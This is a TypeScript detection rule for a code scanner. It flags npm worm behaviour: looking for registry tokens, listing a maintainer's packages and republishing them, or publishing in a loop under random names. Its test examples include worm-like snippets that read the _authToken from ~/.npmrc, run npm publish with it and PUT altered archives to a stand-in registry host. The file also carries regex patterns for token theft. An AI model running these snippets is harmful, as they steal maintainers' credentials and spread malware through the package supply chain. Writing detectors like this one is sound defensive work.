import { isFunction, isSameVariable } from '../src/define/variables.js';
import { defineRule, runsOnLoad, spelling, step } from '../src/define.js';
import type { AnyNode, Call, FileContext } from '../src/types.js';

export default defineRule({
  meta: {
    summary: 'Publishes packages with tokens it finds',
    why: 'A worm takes the npm token of whoever it meets, lists what they maintain and publishes itself into it. Release tools publish the project they are run in, from their command, with the token their user gives; looking for tokens and publishing in one file is the difference.',
    behaviour: 'spread',
    messages: {
      publisher: 'Publishes packages with a token that it looks for, as it says it does',
      worm: 'Publishes packages, and looks for tokens to do so',
      spreads: 'Lists the packages that somebody maintains, and publishes',
      unasked: 'Publishes packages as soon as it is {moment}, and looks for tokens to do so',
      random: 'Publishes packages in a loop, under names of chance',
      loop: 'Publishes packages in a loop, changing their names',
      publishes: 'Publishes a package with {sink}',
    },
    bits: { publisher: 3, worm: 8, spreads: 13.5, unasked: 13.5, random: 14, loop: 9, publishes: 2 },
  },
  examples: {
    flags: [
      {
        title: 'a loop calls what makes a name up and publishes',
        code: `const fs = require('fs'), { execSync } = require('child_process');\nconst pick = words => words[Math.floor(Math.random() * words.length)];\nfunction go() {\n  const own = JSON.parse(fs.readFileSync('package.json', 'utf8'));\n  own.name = pick(['red', 'blue']) + '-' + pick(['hen', 'ox']);\n  fs.writeFileSync('package.json', JSON.stringify(own));\n  execSync('npm publish --access public');\n}\n(async () => { while (true) { go(); await new Promise(done => setTimeout(done, 7000)); } })();`,
      },
      {
        title: 'names are made up in a loop',
        code: `const fs = require('fs'), { execSync } = require('child_process');\nfor (const name of names) {\n  fs.writeFileSync('package.json', JSON.stringify({ name, version: '1.0.0' }));\n  execSync('npm publish --access public');\n}`,
      },
      {
        title: 'a token is looked for, then used',
        code: `const fs = require('fs'), os = require('os'), { execSync } = require('child_process');\nconst token = /_authToken=(.+)/.exec(fs.readFileSync(os.homedir() + '/.npmrc', 'utf8'))[1];\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\npkg.version = '9.9.9';\nfs.writeFileSync('package.json', JSON.stringify(pkg));\nexecSync('npm publish', { env: { NPM_TOKEN: token } });`,
      },
      {
        title: 'the archives of whatever a token’s owner maintains are put back changed',
        code: `exports.go = async token => {\n  const found = await (await fetch('https://registry.invalid/-/v1/search?text=maintainer:' + user)).json();\n  for (const { package: p } of found.objects)\n    await fetch('https://registry.invalid/' + p.name, { method: 'PUT', headers: { authorization: token }, body: JSON.stringify({ name: p.name, _attachments: { 'a.tgz': { data } } }) });\n};`,
      },
      {
        title: 'a name is drawn for each turn',
        code: `const fs = require('fs'), { execSync } = require('child_process');\nconst p = JSON.parse(fs.readFileSync('package.json'));\nwhile (true) {\n  p.name = words[Math.floor(Math.random() * words.length)];\n  fs.writeFileSync('package.json', JSON.stringify(p));\n  execSync('npm publish');\n}`,
      },
    ],
    passes: [
      {
        title: 'a search lists what a user maintains',
        code: `exports.of = user => fetch('https://registry.invalid/-/v1/search?text=maintainer:' + user).then(r => r.json());`,
      },
      { title: 'a build is run', code: `require('child_process').execSync('npm run build');` },
      { title: 'publishing is talked about', code: `console.log('Now run npm publish');` },
    ],
  },
  file(context) {
    const publish = publishingOf(context);
    if (!publish) return;
    const sink = step('sink', `publishes with ${publish.name}`, context.file, publish.node);
    const { text } = context.file;
    const lists = context
      .calls('network')
      .find(({ args }) => args.some(arg => context.textsWithin(arg).some(one => MAINTAINED.test(one))));
    if (lists) {
      context.report({
        messageId: 'spreads',
        chain: [step('source', 'lists what somebody maintains', context.file, lists.node), sink],
      });
      return;
    }
    const search = /_authToken|\/-\/whoami|npm whoami|maintainer:|\/-\/npm\/v1\/tokens|oidc\/token\/exchange/.exec(
      text,
    );
    const reads = context
      .calls('read')
      .find(call => call.args[0] && context.textsOf(call.args[0]).some(one => /\.npmrc$/.test(one)));
    if (search || reads) {
      const origin = reads
        ? { file: context.file, node: reads.node }
        : { file: context.file, start: search?.index ?? 0, end: (search?.index ?? 0) + 20 };
      const unasked =
        context.moment === 'install' || (context.moment === 'import' && runsOnLoad(context, publish.node));
      context.report({
        messageId: unasked ? 'unasked' : isPublisher(context) ? 'publisher' : 'worm',
        data: { moment: context.moment === 'install' ? 'installed' : 'loaded' },
        chain: [{ role: 'source', says: 'looks for a token of the npm registry', origin }, sink],
      });
      return;
    }
    const looped = inLoop(publish.node, context.parentOf) || isRepeated(context, publish.node);
    const renames = context
      .calls('write')
      .some(call => call.args[0] && context.textsOf(call.args[0]).some(one => /package\.json$/.test(one)));
    context.report({
      messageId: looped && renames ? (drawsNames(context) ? 'random' : 'loop') : 'publishes',
      data: { sink: publish.name },
      chain: [sink],
    });
  },
});

const MAINTAINED = /\/-\/v1\/search\?.{0,80}maintainer(?::|%3A)|^text=maintainer:/i;

/** Whoever publishes for others says so, and is used for it; a worm sits in packages that are for something else. */
function isPublisher({ isSaid }: FileContext): boolean {
  return ['publish', 'publishing', 'publisher', 'release', 'registry'].some(isSaid);
}

/** What publishes: the program, the library, or a request with the archive in it. */
function publishingOf(context: FileContext): Call | undefined {
  const byProgram = context.calls('process').find(({ args }) => {
    const line = args
      .flatMap(arg => context.textsWithin(arg))
      .slice(0, 20)
      .join(' ');
    return /\b(?:npm|pnpm|yarn|bun)(?:\.cmd)?\b.{0,40}\bpublish\b/.test(line);
  });
  if (byProgram) return byProgram;
  const byLibrary = context.named(/^libnpmpublish(?:\.default)?\.publish$/)[0];
  if (byLibrary) return byLibrary;
  if (!/\b_attachments\b/.test(context.file.text)) return undefined;
  return context
    .calls('network')
    .find(({ args }) => args.some(arg => context.textsWithin(arg).some(text => /^put$/i.test(text))));
}

/** `package.name = words[Math.floor(Math.random() * n)]`, in one way or another. */
function drawsNames({ nodes, named, file }: FileContext): boolean {
  if (named('Math.random').length === 0 && named(/^crypto\.random/).length === 0) return false;
  return nodes('AssignmentExpression').some(node => {
    const { left } = node;
    const written = spelling(file, left);
    return /(?:\.|\[['"])name(?:['"]\])?$/.test(written.slice(-40));
  });
}

function inLoop<T extends { readonly type: string }>(node: T, parentOf: (node: T) => T | undefined): boolean {
  for (let at = parentOf(node), level = 0; at && level < 100; at = parentOf(at), level++)
    if (/^(?:For|While|DoWhile)/.test(at.type)) return true;
  return false;
}

/** `function turn() { …; setTimeout(turn, 7000); }` and its like: each turn asks for the next, or a loop calls it. */
function isRepeated(context: FileContext, node: AnyNode): boolean {
  const calls = context.nodes('CallExpression') as unknown as readonly (AnyNode & { readonly callee: AnyNode })[];
  const again = [
    ...context.named(/^set(?:Timeout|Interval|Immediate)$/).flatMap(({ args }) => args.slice(0, 1)),
    ...calls.filter(call => inLoop(call, context.parentOf)).map(({ callee }) => callee),
  ];
  for (let at = context.parentOf(node), level = 0; at && level < 100; at = context.parentOf(at), level++)
    if (isFunction(at) && (again.includes(at) || again.some(arg => namesFunction(context, arg, at as AnyNode))))
      return true;
  return false;
}

function namesFunction(context: FileContext, arg: AnyNode, fn: AnyNode): boolean {
  const { id } = (fn.type === 'FunctionDeclaration' ? fn : (context.parentOf(fn) ?? fn)) as { id?: AnyNode };
  return arg.type === 'Identifier' && id?.type === 'Identifier' && isSameVariable(context, arg, id);
}
